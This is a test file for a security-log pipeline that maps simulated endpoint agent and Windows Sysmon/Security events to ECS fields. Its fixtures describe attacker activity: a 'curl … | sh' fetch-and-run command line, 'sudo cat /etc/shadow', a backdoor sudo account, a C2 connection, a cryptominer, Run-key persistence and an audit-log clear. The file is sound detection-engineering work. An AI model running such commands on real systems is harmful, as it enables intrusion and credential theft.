// The endpoint pipeline (pipelines/endpoint.yml) run in process over every fixture in test/fixtures/endpoint:
// Nyx agent events, and Windows event records in both XML->JSON conventions (evtx_dump "#attributes"/"#text",
// xml2js "$"/"_") and both EventData forms (name->value map, Data list). Expectations are per fixture line;
// the fixtures stay plain files so the data-stream round trip can reuse them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import YAML from 'yaml';
import { compilePipeline, createGeoIpLookup } from '../../src/pipeline-runner/index.ts';
import { fieldAt as get, runHandled, expectFieldsAt as expectFields } from '../support/pipeline-assert.ts';

const dir = new URL('../fixtures/endpoint/', import.meta.url);
const lines = (name: string) => readFileSync(new URL(name, dir), 'utf8').split('\n').filter((l) => l.trim() !== '');
const asset = YAML.parse(readFileSync(new URL('../../pipelines/endpoint.yml', import.meta.url), 'utf8'));
const pipeline = compilePipeline(asset.pipeline, { timezone: 'UTC', geoip: createGeoIpLookup(), resolvePipeline: () => undefined });

const run = (doc: Record<string, unknown>) => runHandled(pipeline, doc);

// ---- Nyx agent events: one entry per line of agent.ndjson
const WEB = { 'host.name': 'web-01', 'host.ip': '10.20.1.15' };
const agentExpected: Record<string, unknown>[] = [
  { ...WEB, '@timestamp': '2024-05-02T09:15:00.000Z', 'event.kind': 'metric', 'event.category': ['host'], 'event.type': ['info'], 'event.action': 'telemetry', 'event.severity': 1, 'nyx.telemetry.cpu': 37.5, 'nyx.telemetry.ram': 61.2, 'nyx.telemetry.gpu': 0, 'host.network.ingress.bytes': 18234455, 'host.network.egress.bytes': 9123345 },
  { 'host.name': 'gpu-box', '@timestamp': '2024-05-02T07:15:05.250Z', 'event.kind': 'metric', 'event.provider': 'collector.system', 'event.severity': 3, 'nyx.telemetry.cpu': 12, 'nyx.telemetry.gpu': 97.3, 'host.network': undefined },
  { ...WEB, 'event.category': ['process'], 'event.type': ['start'], 'event.action': 'process-started', 'event.severity': 7, 'process.pid': 28817, 'process.parent.pid': 1022, 'process.name': 'bash', 'process.executable': '/usr/bin/bash', 'process.command_line': 'bash -c curl -s http://198.51.100.23/x.sh | sh', 'user.name': 'www-data', message: 'new process bash (28817) parent 1022' },
  { ...WEB, 'event.category': ['process'], 'event.type': ['info'], 'event.action': 'process-list', 'nyx.processes': [{ pid: 1022, name: 'nginx', cpu: 4.1, rss: 52428800 }, { pid: 877, name: 'postgres', cpu: 2.3, rss: 104857600 }], processes: undefined },
  { ...WEB, 'event.category': ['authentication', 'session'], 'event.type': ['start'], 'event.action': 'logged-in', 'event.outcome': 'success', 'user.name': 'alice', 'related.user': ['alice'] },
  { ...WEB, 'event.category': ['authentication', 'session'], 'event.type': ['end'], 'event.action': 'logged-out', 'event.outcome': 'success', 'user.name': 'alice' },
  { ...WEB, 'event.category': ['authentication'], 'event.type': ['start'], 'event.action': 'logon-failed', 'event.outcome': 'failure', 'event.severity': 5, 'user.name': 'root' },
  { ...WEB, 'event.category': ['iam'], 'event.type': ['user', 'creation'], 'event.action': 'added-user-account', 'event.outcome': 'success', 'user.name': 'backdoor', 'user.target.name': 'backdoor' },
  { ...WEB, 'event.category': ['iam'], 'event.type': ['group', 'change'], 'event.action': 'added-member-to-group', 'group.name': 'sudo', 'user.target.name': 'backdoor', 'event.severity': 9 },
  { ...WEB, 'event.category': ['iam'], 'event.type': ['info'], 'event.action': 'password_changed', 'event.outcome': undefined, 'user.name': 'bob' },
  { ...WEB, 'event.category': ['process'], 'event.type': ['start'], 'event.action': 'command-executed', 'process.command_line': 'sudo cat /etc/shadow', 'process.pid': 30101, 'process.parent.executable': '/usr/bin/bash', 'process.parent.name': 'bash', 'user.name': 'alice' },
  { 'host.name': 'WS-FIN-07', 'event.action': 'command-executed', 'process.pid': 6120, 'process.parent.name': 'winword.exe', 'process.parent.executable': undefined, 'user.name': 'jdoe', 'user.domain': 'CORP' },
  { ...WEB, 'event.category': ['process'], 'event.type': ['end'], 'event.action': 'service-stop', 'service.name': 'nginx' },
  { ...WEB, 'event.category': ['process'], 'event.type': ['start'], 'event.action': 'service-start', 'service.name': 'nginx' },
  { 'host.name': 'WS-FIN-07', 'event.category': ['configuration'], 'event.type': ['installation', 'creation'], 'event.action': 'service-install', 'service.name': 'PSEXESVC', 'event.provider': 'scm', 'event.severity': 8 },
  { 'host.name': 'WS-FIN-07', 'event.category': ['file', 'network'], 'event.type': ['creation'], 'event.action': 'file-downloaded', 'file.path': 'C:\\Users\\jdoe\\Downloads\\invoice_0424.docm', 'file.name': 'invoice_0424.docm', 'file.directory': 'C:\\Users\\jdoe\\Downloads', 'file.extension': 'docm', 'file.hash.sha256': '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', 'url.full': 'https://files.example-cdn.net/dl/invoice_0424.docm?id=77', 'url.domain': 'files.example-cdn.net', 'url.query': 'id=77', 'related.hash': ['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'] },
  { ...WEB, 'event.category': ['file', 'process'], 'event.type': ['access', 'start'], 'event.action': 'file-executed', 'file.path': '/tmp/.x/kinsing', 'file.name': 'kinsing', 'file.directory': '/tmp/.x', 'process.executable': '/tmp/.x/kinsing', 'process.name': 'kinsing', 'process.hash.sha256': '5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8' },
  { ...WEB, 'event.category': ['network'], 'event.type': ['connection', 'start'], 'event.action': 'network-connection', 'source.ip': '10.20.1.15', 'destination.ip': '198.51.100.23', 'destination.port': 4444, 'destination.domain': 'c2.bad-domain.example', 'network.transport': 'tcp', 'related.ip': ['10.20.1.15', '198.51.100.23'], 'related.hosts': ['c2.bad-domain.example'] },
  { 'host.name': 'WS-FIN-07', 'source.ip': '10.30.4.7', 'destination.ip': '2001:db8::53', 'destination.port': 53, 'event.severity': 3 },
  { ...WEB, 'event.kind': 'alert', 'event.category': ['intrusion_detection'], 'event.type': ['indicator'], 'event.action': 'detection', 'rule.name': 'Cryptominer kinsing', 'rule.id': 'nyx-local-0012', 'event.severity': 10, message: 'kinsing binary executed from /tmp' },
];

test('endpoint: Nyx agent events of every category map to ECS', () => {
  const records = lines('agent.ndjson');
  assert.equal(records.length, agentExpected.length);
  records.forEach((line, i) => {
    const input = JSON.parse(line);
    const doc = run(input);
    expectFields(doc, { 'event.kind': 'event', 'event.dataset': 'endpoint', 'event.provider': 'agent', 'event.original': input.raw, 'nyx.category': input.category, error: undefined, _tmp: undefined, ...agentExpected[i] }, `line ${i + 1}`);
    for (const leftover of ['ts', 'category', 'raw', 'severity', 'ip', 'pid', 'ppid', 'cmd', 'path', 'sha256', 'dst_ip', 'dst_port', 'service_name', 'action', 'cpu', 'net']) {
      assert.equal(get(doc, leftover), undefined, `line ${i + 1}: ${leftover} mapped`);
    }
    assert.equal(typeof get(doc, 'host'), 'object');
  });
});

test('endpoint: an agent event as a Filebeat JSON line keeps the line as event.original', () => {
  const line = JSON.stringify({ ts: '2024-05-02T09:22:30Z', category: 'user_activity', action: 'failed_login', host: 'web-01', user: 'root', ip: '10.20.1.15' });
  const doc = run({ '@timestamp': '2024-05-02T09:30:00.000Z', message: line, input: { type: 'filestream' } });
  expectFields(doc, { 'event.original': line, message: undefined, 'event.outcome': 'failure', 'user.name': 'root', '@timestamp': '2024-05-02T09:22:30.000Z' }, 'filebeat line');
});

// ---- Windows records: shared expectations
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const WS = { 'winlog.computer_name': 'WS-FIN-07.corp.example.com', 'host.name': 'WS-FIN-07.corp.example.com' };
const SYSMON = { 'winlog.channel': 'Microsoft-Windows-Sysmon/Operational', 'winlog.provider_name': 'Microsoft-Windows-Sysmon', 'event.module': 'sysmon', 'event.provider': 'Microsoft-Windows-Sysmon' };
const SECURITY = { 'winlog.channel': 'Security', 'winlog.provider_name': 'Microsoft-Windows-Security-Auditing', 'event.module': 'security' };

const evtxExpected: Record<string, unknown>[] = [
  { ...WS, ...SYSMON, 'winlog.event_id': '1', 'event.code': '1', 'winlog.record_id': '88213', 'winlog.process.pid': 3012, 'winlog.user.identifier': 'S-1-5-18', '@timestamp': '2024-05-02T09:31:12.345Z', 'event.category': ['process'], 'event.type': ['start'], 'process.pid': 6120, 'process.executable': PS, 'process.name': 'powershell.exe', 'process.parent.name': 'WINWORD.EXE', 'process.parent.pid': 5480, 'process.hash.sha256': 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c', 'process.pe.imphash': '741776aaccfc5b71ff59832dcdcace0f', 'user.name': 'jdoe', 'user.domain': 'CORP', 'winlog.event_data.ProcessId': '6120', 'winlog.event_data.TerminalSessionId': '1' },
  { ...WS, ...SYSMON, 'event.code': '3', 'event.category': ['network'], 'source.ip': '10.30.4.7', 'source.port': 49752, 'destination.ip': '198.51.100.23', 'destination.port': 443, 'network.direction': 'egress', 'network.type': 'ipv4', 'network.protocol': 'https', 'winlog.event_data.Initiated': 'true', 'winlog.event_data.SourceIsIpv6': 'false' },
  { ...WS, ...SYSMON, 'event.code': '11', 'event.category': ['file'], 'event.type': ['creation'], 'file.name': 'OneDriveSync.LNK', 'file.extension': 'lnk', 'rule.name': 'T1547.001' },
  { ...SECURITY, 'host.name': 'DC01.corp.example.com', 'event.code': '4624', 'event.action': 'logged-in', 'event.outcome': 'success', 'winlog.keywords': ['Audit Success'], 'user.name': 'svc_backup', 'source.ip': '10.30.4.7', 'source.port': 51234, 'winlog.logon.type': 'Network', 'winlog.event_data.LogonType': '3', 'winlog.event_data.KeyLength': '128', 'process.pid': undefined, 'winlog.user': undefined },
  { ...SECURITY, 'event.code': '4625', 'event.action': 'logon-failed', 'event.outcome': 'failure', 'winlog.keywords': ['Audit Failure'], 'user.name': 'Administrator', 'source.ip': '203.0.113.77', 'winlog.logon.failure.reason': 'Unknown user name or bad password.', '@timestamp': '2024-05-02T09:41:55.120Z' },
  { 'winlog.channel': 'Security', 'winlog.provider_name': 'Microsoft-Windows-Eventlog', 'event.module': 'security', 'event.code': '1102', 'event.action': 'audit-log-cleared', 'event.category': ['iam'], 'event.type': ['admin', 'change'], 'user.name': 'Administrator', 'user.domain': 'CORP', 'winlog.user_data.xml_name': 'LogFileCleared', 'winlog.user_data.SubjectLogonId': '0x4f2a1', 'winlog.user_data.#attributes': undefined },
  { ...WS, 'winlog.channel': 'System', 'winlog.provider_name': 'Service Control Manager', 'winlog.event_id': '7045', 'event.code': '7045', 'event.module': undefined, 'event.category': undefined, 'winlog.event_data.ServiceName': 'PSEXESVC', 'winlog.event_data.ImagePath': '%SystemRoot%\\PSEXESVC.exe' },
  { ...WS, ...SYSMON, 'event.code': '7', 'file.path': 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\vcruntime140.DLL', 'dll.path': 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\vcruntime140.DLL', 'dll.hash.sha256': '4a5b6c7d8e9f00112233445566778899aabbccddeeff00112233445566778899', 'file.code_signature.signed': false, 'winlog.event_data.Signed': 'false' },
  { ...WS, ...SECURITY, 'event.code': '4688', 'process.pid': 6700, 'process.parent.pid': 6120, 'process.name': 'whoami.exe', 'process.command_line': 'whoami /priv', 'user.name': 'jdoe' },
  { ...WS, ...SYSMON, 'event.code': '13', 'registry.hive': 'HKLM', 'registry.value': 'DisableAntiSpyware', 'registry.data.type': 'SZ_DWORD', 'registry.data.strings': ['1'] },
  { ...SECURITY, 'event.code': '4720', 'event.action': 'added-user-account', 'user.name': 'Administrator', 'user.target.name': 'helpdesk2' },
];

const xml2jsExpected: Record<string, unknown>[] = [
  { ...WS, ...SYSMON, 'winlog.event_id': '1', 'winlog.record_id': '90001', 'winlog.process.pid': 2988, '@timestamp': '2024-05-02T11:00:01.100Z', 'process.pid': 7344, 'process.name': 'cmd.exe', 'process.parent.name': 'PSEXESVC.exe', 'process.hash.md5': '911d039e71583a07320b32bde22f8e22', 'process.hash.sha1': undefined, 'process.pe.imphash': undefined, 'user.name': 'SYSTEM', 'user.domain': 'NT AUTHORITY', 'process.working_directory': 'C:\\Windows\\system32\\' },
  { ...SYSMON, 'host.name': 'SRV-WEB-02.corp.example.com', 'event.code': '3', 'source.ip': '2001:db8:77::15', 'source.port': 50110, 'source.domain': undefined, 'destination.ip': '2001:db8:10::2', 'destination.port': 445, 'destination.domain': 'SRV-WEB-02.corp.example.com', 'network.direction': 'ingress', 'network.type': 'ipv6', 'network.protocol': 'microsoft-ds', 'process.name': 'System' },
  { ...WS, ...SYSMON, 'event.code': '8', 'event.type': ['change'], 'process.pid': 8120, 'process.name': 'inj.exe', 'winlog.event_data.TargetProcessId': '1044', 'user.name': 'jdoe' },
  { ...WS, ...SYSMON, 'event.code': '10', 'event.type': ['access'], 'process.pid': 8888, 'process.thread.id': 8892, 'process.name': 'procdump64.exe', 'winlog.event_data.GrantedAccess': '0x1fffff' },
  { ...SYSMON, 'event.code': '12', 'event.type': ['creation'], 'registry.hive': 'HKU', 'registry.value': undefined, 'registry.key': 'S-1-5-21-3623811015-3361044348-30300820-1107\\Software\\Classes\\ms-settings\\shell\\open\\command' },
  { ...SYSMON, 'event.code': '12', 'event.type': ['deletion'], 'registry.hive': 'HKLM', 'registry.key': 'SYSTEM\\CurrentControlSet\\Services\\EventLog\\Security', 'registry.value': 'MaxSize' },
  { ...SYSMON, 'event.code': '14', 'event.action': 'Registry object renamed (rule: RegistryEvent)', 'registry.key': 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', 'process.name': 'regedit.exe' },
  { ...SYSMON, 'event.code': '13', 'registry.hive': 'HKU', 'registry.value': 'OneDriveUpdate', 'registry.data.type': 'REG_SZ', 'registry.data.strings': ['C:\\Users\\Public\\inj.exe -silent'], 'rule.name': 'T1547.001,RunKey' },
  { ...SECURITY, 'event.code': '4732', 'event.action': 'added-member-to-group', 'group.name': 'Administrators', 'group.id': 'S-1-5-32-544', 'user.target.name': 'Helpdesk Two', 'user.name': 'Administrator' },
  { ...SECURITY, 'event.code': '4624', 'winlog.logon.type': 'RemoteInteractive', 'user.name': 'Administrator', 'source.ip': '192.0.2.44', 'source.port': undefined, 'process.pid': 1208, 'process.name': 'svchost.exe' },
  { 'winlog.provider_name': 'Microsoft-Windows-User Profiles Service', 'winlog.channel': 'Application', 'event.code': '1', 'event.module': undefined, 'event.category': undefined, 'winlog.event_data': { Session: '2' } },
  { 'winlog.provider_name': 'MsiInstaller', 'winlog.event_id': '1033', 'event.code': '1033', 'winlog.event_data': undefined, 'winlog.record_id': '33050' },
  { ...SECURITY, 'host.name': 'WS-FIN-07', 'host.ip': '10.30.4.7', 'event.code': '4625', 'event.outcome': 'failure', 'event.severity': 4, 'user.name': 'jdoe', 'winlog.logon.type': 'Interactive', 'source.ip': '127.0.0.1', 'process.pid': 752, '@timestamp': '2024-05-02T11:49:58.555Z', 'nyx.category': 'windows_event' },
];

for (const [file, expected] of [['windows-evtx_dump.ndjson', evtxExpected], ['windows-xml2js.ndjson', xml2jsExpected]] as const) {
  test(`endpoint: Windows records from ${file} map to Winlogbeat's ECS shape`, () => {
    const records = lines(file);
    assert.equal(records.length, expected.length);
    records.forEach((line, i) => {
      const input = JSON.parse(line);
      const doc = run(input);
      expectFields(doc, { 'event.kind': 'event', 'winlog.api': 'xml', Event: undefined, error: undefined, _tmp: undefined, ...expected[i] }, `${file} line ${i + 1}`);
      if (typeof input.raw === 'string') assert.equal(get(doc, 'event.original'), input.raw);
      const eventData = get(doc, 'winlog.event_data') as Record<string, unknown> | undefined;
      for (const value of Object.values(eventData ?? {})) assert.equal(typeof value, 'string', `${file} line ${i + 1}: event_data values are strings`);
    });
  });
}

test('endpoint: the four XML->JSON shapes of one record give the same winlog.event_data', () => {
  // The evtx_dump map-form 4688 and the same record as xml2js Data list, evtx Data list and a single Data element.
  const evtx = JSON.parse(lines('windows-evtx_dump.ndjson')[8]!);
  const data = evtx.Event.EventData.Data as { '#attributes': { Name: string }; '#text': string }[];
  const asMap = structuredClone(evtx);
  asMap.Event.EventData = Object.fromEntries(data.map((d) => [d['#attributes'].Name, d['#text']]));
  const asXml2js = structuredClone(evtx);
  asXml2js.Event.EventData = { Data: data.map((d) => ({ _: d['#text'], $: { Name: d['#attributes'].Name } })) };
  const base = run(evtx);
  for (const variant of [asMap, asXml2js]) {
    const doc = run(variant);
    assert.deepEqual(get(doc, 'winlog.event_data'), get(base, 'winlog.event_data'));
    assert.equal(get(doc, 'process.pid'), 6700);
  }
  const single = structuredClone(evtx);
  single.Event.EventData = { Data: { $: { Name: 'CommandLine' }, _: 'whoami /priv' } };
  assert.deepEqual(get(run(single), 'winlog.event_data'), { CommandLine: 'whoami /priv' });
});

test('endpoint: malformed agent events are kept with event.original and error.message', () => {
  const cases: [RegExp, Record<string, unknown>][] = [
    [/^fail processor \[agent-no-ts\] failed: field \[ts\] is required/, { 'host.name': 'web-01', 'nyx.category': 'process' }],
    [/^date processor \[agent-ts\] failed: unable to parse date \[02\/05\/2024 09:15\]/, { 'nyx.unparsed.ts': '02/05/2024 09:15' }],
    [/^fail processor \[agent-severity-range\] failed: .*got \[42\]/, { 'event.severity': 42, 'user.name': 'alice' }],
    [/^convert processor \[agent-severity\] failed: unable to convert \[high\]/, { 'nyx.unparsed.severity': 'high', 'event.severity': undefined }],
    [/^fail processor \[agent-unknown-category\] failed: unknown category \[registry\]/, { 'nyx.unparsed.category': 'registry' }],
    [/^fail processor \[agent-no-category\] failed/, { message: 'no category at all' }],
    [/^convert processor \[agent-ip-valid\] failed: .*10\.0\.0\.999/, { 'host.ip': undefined, 'nyx.unparsed.ip': '10.0.0.999' }],
    [/^convert processor \[agent-dst-port-long\] failed: unable to convert \[http\]/, { 'destination.port': undefined, 'nyx.unparsed.dst_port': 'http' }],
    [/^fail processor \[service-bad-action\] failed: .*got \[restart\]/, { 'service.name': 'nginx' }],
    [/^fail processor \[file-bad-action\] failed: .*got \[upload\]/, { 'file.path': '/tmp/x' }],
    [/^convert processor \[agent-cpu-float\] failed: unable to convert \[very high\]/, { 'nyx.unparsed.cpu': 'very high' }],
    [/^convert processor \[agent-pid-long\] failed: unable to convert \[abc\]/, { 'process.pid': undefined, 'nyx.unparsed.pid': 'abc' }],
    [/^fail processor \[agent-no-category\] failed/, {}],
    [/^json processor \[parse-message-json\] failed/, {}],
  ];
  const records = lines('agent-malformed.ndjson');
  assert.equal(records.length, cases.length);
  records.forEach((line, i) => {
    const input = JSON.parse(line);
    const doc = run(input);
    const [error, fields] = cases[i]!;
    assert.equal(get(doc, 'event.kind'), 'pipeline_error', `line ${i + 1}`);
    assert.match(String(get(doc, 'error.message')), error, `line ${i + 1}`);
    assert.equal(get(doc, 'event.original'), input.raw ?? input.message, `line ${i + 1}: event.original`);
    assert.equal(typeof get(doc, '@timestamp'), 'string', `line ${i + 1}: indexable @timestamp`);
    assert.notEqual(typeof get(doc, 'host'), 'string', `line ${i + 1}: host never left as a string`);
    expectFields(doc, { _tmp: undefined, ...fields }, `line ${i + 1}`);
  });
});

test('endpoint: malformed Windows records are kept with error.message', () => {
  const cases: [RegExp, Record<string, unknown>][] = [
    [/^fail processor \[winevt-no-event-id\] failed/, { 'nyx.raw_event.EventData.SubjectUserName': 'jdoe', Event: undefined }],
    [/^date processor \[winevt-timestamp\] failed: unable to parse date \[not-a-date\]/, { 'nyx.raw_event.System.EventID': '1', 'winlog.event_id': '1' }],
    [/^convert processor \[win-destination-port-long\] failed: unable to convert \[https\]/, { 'destination.port': undefined, 'source.ip': undefined, 'winlog.event_data.DestinationPort': 'https', 'winlog.event_data.SourceIp': '10.30.4.7' }],
    [/^convert processor \[win-process-pid-long\] failed: unable to convert \[0xZZ12\]/, { 'process.pid': undefined, 'winlog.event_data.NewProcessId': '0xZZ12' }],
    [/^fail processor \[winevt-not-object\] failed/, { 'nyx.raw_event': "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>4624" }],
    [/^json processor \[parse-message-json\] failed/, {}],
  ];
  const records = lines('windows-malformed.ndjson');
  cases.forEach(([error, fields], i) => {
    const input = JSON.parse(records[i]!);
    const doc = run(input);
    assert.equal(get(doc, 'event.kind'), 'pipeline_error', `line ${i + 1}`);
    assert.match(String(get(doc, 'error.message')), error, `line ${i + 1}`);
    assert.equal(typeof get(doc, '@timestamp'), 'string');
    if (typeof input.message === 'string' && input.message.startsWith('{')) assert.equal(get(doc, 'event.original'), input.message);
    expectFields(doc, { _tmp: undefined, ...fields }, `line ${i + 1}`);
  });
  // A valid record arriving as a JSON line in message: mapped, with the line kept.
  const line = JSON.parse(records[6]!);
  const doc = run(line);
  expectFields(doc, { 'event.original': line.message, message: undefined, 'event.action': 'logon-failed', 'user.name': 'Administrator', 'log.file.path': 'C:\\evtx\\security.jsonl', error: undefined }, 'json line');
});

test('endpoint asset: a version, on_failure marks and keeps the document, no script/drop', () => {
  assert.equal(asset.source, 'endpoint');
  assert.ok(asset.version >= 2, 'bumped when the software category was added');
  const onFailure = JSON.stringify(asset.pipeline.on_failure);
  assert.match(onFailure, /pipeline_error/);
  assert.match(onFailure, /_ingest\.on_failure_processor_type/);
  assert.doesNotMatch(JSON.stringify(asset.pipeline), /"drop"|"script"/);
});

test('software: a package from the agent inventory becomes ECS package.* with event.category package', () => {
  const compiled = compilePipeline(asset.pipeline, { timezone: 'UTC' });
  const { doc, error } = compiled.run({
    ts: '2026-11-21T06:00:00Z',
    category: 'software',
    host: 'web-1',
    package: { name: 'openssl', version: '3.0.11-1~deb12u2', architecture: 'amd64', type: 'deb' },
    raw: 'openssl\t3.0.11-1~deb12u2\tamd64',
  });
  assert.equal(error, undefined);
  const d = doc as Record<string, any>;
  assert.deepEqual(d.event.category, ['package']);
  assert.deepEqual(d.event.type, ['info']);
  assert.equal(d.event.action, 'software-installed');
  assert.deepEqual(d.package, { name: 'openssl', version: '3.0.11-1~deb12u2', architecture: 'amd64', type: 'deb' });
  assert.equal(d.host.name, 'web-1');
});
